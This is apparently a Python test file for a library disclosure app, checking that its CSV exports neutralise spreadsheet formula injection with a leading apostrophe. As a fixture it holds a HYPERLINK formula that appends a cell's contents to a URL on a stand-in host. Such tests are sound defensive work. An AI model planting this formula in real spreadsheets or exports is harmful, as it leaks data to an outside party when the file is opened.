"""Every CSV the app writes shows a record's text as text: a cell that a spreadsheet would run
as a formula starts with an apostrophe (disclosure/csvsafe.py)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from disclosure import csvsafe
from disclosure.cases import productions, service
from tests import factories
from tests.patrons.steps import verify

HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A2,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Gilead", "Gilead"),
        ("a=1", "a=1"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_a_cell_that_would_start_a_formula_gets_an_apostrophe(cell, written):
    assert csvsafe.neutralise(cell) == written


def test_the_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    writer = csvsafe.writer(out, lineterminator="\n")
    writer.writerow(["title", "count"])
    writer.writerows([[HYPERLINK, 3], ["-2 days", -2]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["title", "count"],
        ["'" + HYPERLINK, "3"],
        ["'-2 days", "-2"],
    ]


def test_a_productions_records_csv_shows_a_formula_as_text(session, app_context):
    director = factories.user(session, "director")
    case = factories.advised_case(session, director=director)
    service.decide(session, director, case, "comply")
    patron = factories.patron(session)
    factories.loan(session, patron, item_title=HYPERLINK)
    production = productions.freeze(
        session,
        director,
        case,
        productions.Criteria(kinds=["loans"], card_number=patron.card_number),
        recipient="Det. Jordan Hale",
        authority="Subpoena 26JE-CR00123",
    )
    rows = list(csv.DictReader(io.StringIO(productions.export_csv(case, production).decode())))
    assert [row["item_title"] for row in rows] == ["'" + HYPERLINK]


def test_a_patrons_report_csv_shows_a_formula_as_text(app, session):
    from disclosure.patrons import service as patrons

    patron = factories.patron(session, name="@SUM(1+1) Smith")
    factories.loan(session, patron, item_title=HYPERLINK)
    with app.app_context():
        request = patrons.ask_for_records(session, patron)
    report = verify(app, session, request)
    rows = list(csv.DictReader(io.StringIO(report.csv_data.decode("utf-8-sig"))))
    values = {row["value"] for row in rows}
    assert "'" + HYPERLINK in values and "'@SUM(1+1) Smith" in values
    assert HYPERLINK not in values and "@SUM(1+1) Smith" not in values


def test_no_csv_is_written_around_the_helper():
    """A new export must use csvsafe.writer, not the csv module's writers."""
    package = Path(__file__).resolve().parent.parent / "disclosure"
    writers = [
        path.relative_to(package.parent)
        for path in package.rglob("*.py")
        if path.name != "csvsafe.py"
        and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
    ]
    assert writers == []
